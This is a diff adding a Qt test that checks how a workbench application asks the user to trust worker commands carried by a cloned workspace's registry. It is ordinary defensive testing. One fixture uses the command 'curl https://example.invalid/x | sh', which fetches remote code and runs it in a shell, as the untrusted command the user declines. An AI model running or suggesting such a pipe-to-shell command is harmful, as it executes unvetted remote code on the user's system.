@@ -8,10 +8,16 @@
 #include "widgets/main/log_model.h"
 #include "widgets/main/log_panel.h"
 #include "widgets/main/main_window.h"
+#include "widgets/main/workspace_trust_prompt.h"
+#include "core/registry/registry.h"
+#include "core/services/workspace_trust.h"
+#include "core/workspace/workspace.h"
 
 #include <QAbstractItemModelTester>
 #include <QComboBox>
 #include <QLineEdit>
+#include <QMessageBox>
+#include <QPushButton>
 #include <QSignalSpy>
 #include <QSortFilterProxyModel>
 #include <QTableView>
@@ -32,6 +38,7 @@ private Q_SLOTS:
     void aboutNamesLibraryVersions();
     void logPanelFiltersByLevelAndText();
     void logModelIsCapped();
+    void asksOnceToTrustTheCommandsAWorkspaceCarries();
 
 private:
     QTemporaryDir m_dir;
@@ -39,6 +46,8 @@ private:
 
 void tst_MainWindow::initTestCase()
 {
+    // Trust approvals are the user's settings: a private configuration folder.
+    qputenv("XDG_CONFIG_HOME", m_dir.filePath(u"config"_s).toUtf8());
     QCoreApplication::setOrganizationName(u"TPU Workbench Tests"_s);
     QCoreApplication::setApplicationName(u"tst_main_window"_s);
 }
@@ -130,5 +139,57 @@ void tst_MainWindow::logModelIsCapped()
 }
 
 #include "support/widget_test_main.h"
+// A workspace as git would bring it (its registry written by someone else, with a worker
+// command): the window asks, showing the command; "Trust" approves it. A second workspace
+// answered "Don't trust" stays refused and is not asked again when its registry changes.
+void tst_MainWindow::asksOnceToTrustTheCommandsAWorkspaceCarries()
+{
+    auto makeWorkspace = [&](const QString &dir, const QString &command) {
+        QVERIFY(twb::Workspace(dir).ensureCreated().has_value());
+        const twb::Json json{{"mode", "local"}, {"tpu_name", "box"}, {"workbench", {{"kernel_worker_command", twb::toStd(command)}}}};
+        auto entry = twb::MachineEntry::fromJson(json, u"box"_s);
+        QVERIFY(entry.has_value());
+        QVERIFY(twb::Registry::modify(twb::Workspace(dir).registryFile(), [&](twb::Registry &registry) -> twb::Result<void> {
+                    registry.upsert(*entry);
+                    return {};
+                }).has_value());
+    };
+    const QString cloned = m_dir.filePath(u"cloned"_s);
+    makeWorkspace(cloned, u"bash ./tools/worker.sh {run_dir}"_s);
+    twb::AppContext context;
+    context.setWorkspaceDir(cloned);
+    twb::MainWindow window(context, std::make_shared<twb::LogCaptureSink>());
+    window.resize(1000, 700);
+    window.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&window));
+    twb::WorkspaceTrustPrompt *prompt = window.trustPrompt();
+    QTRY_VERIFY(prompt->question());
+    QMessageBox *question = prompt->question();
+    QVERIFY2(question->text().contains(u"bash ./tools/worker.sh {run_dir}"_s), qPrintable(question->text()));
+    QVERIFY(question->text().contains(u"workbench.kernel_worker_command"_s));
+    QTRY_VERIFY(question->isVisible());
+    QVERIFY(question->grab().save(twb::test::artifactsDir() + u"/workspace_trust_question.png"_s));
+    const QString registry = twb::Workspace(cloned).registryFile();
+    QCOMPARE(twb::WorkspaceTrust::unapproved(cloned, registry)->size(), 1);
+    question->findChild<QPushButton *>(u"trustButton"_s)->click();
+    QVERIFY(twb::WorkspaceTrust::unapproved(cloned, registry)->isEmpty());
+    QTRY_VERIFY(!prompt->question());
+
+    // Another workspace, declined: still refused, and not asked again this session.
+    const QString other = m_dir.filePath(u"other"_s);
+    makeWorkspace(other, u"curl https://example.invalid/x | sh"_s);
+    QSignalSpy checked(prompt, &twb::WorkspaceTrustPrompt::checked);
+    context.setWorkspaceDir(other);
+    QTRY_VERIFY(prompt->question());
+    prompt->question()->findChild<QPushButton *>(u"distrustButton"_s)->click();
+    QTRY_VERIFY(!prompt->question());
+    QCOMPARE(twb::WorkspaceTrust::unapproved(other, twb::Workspace(other).registryFile())->size(), 1);
+    const int checks = int(checked.size());
+    context.notifyRegistryChanged();
+    QTRY_VERIFY(checked.size() > checks);
+    QCOMPARE(checked.last().first().toInt(), 1);
+    QVERIFY(!prompt->question());
+}
+
 TWB_WIDGET_TEST_MAIN(tst_MainWindow)
 #include "tst_main_window.moc"
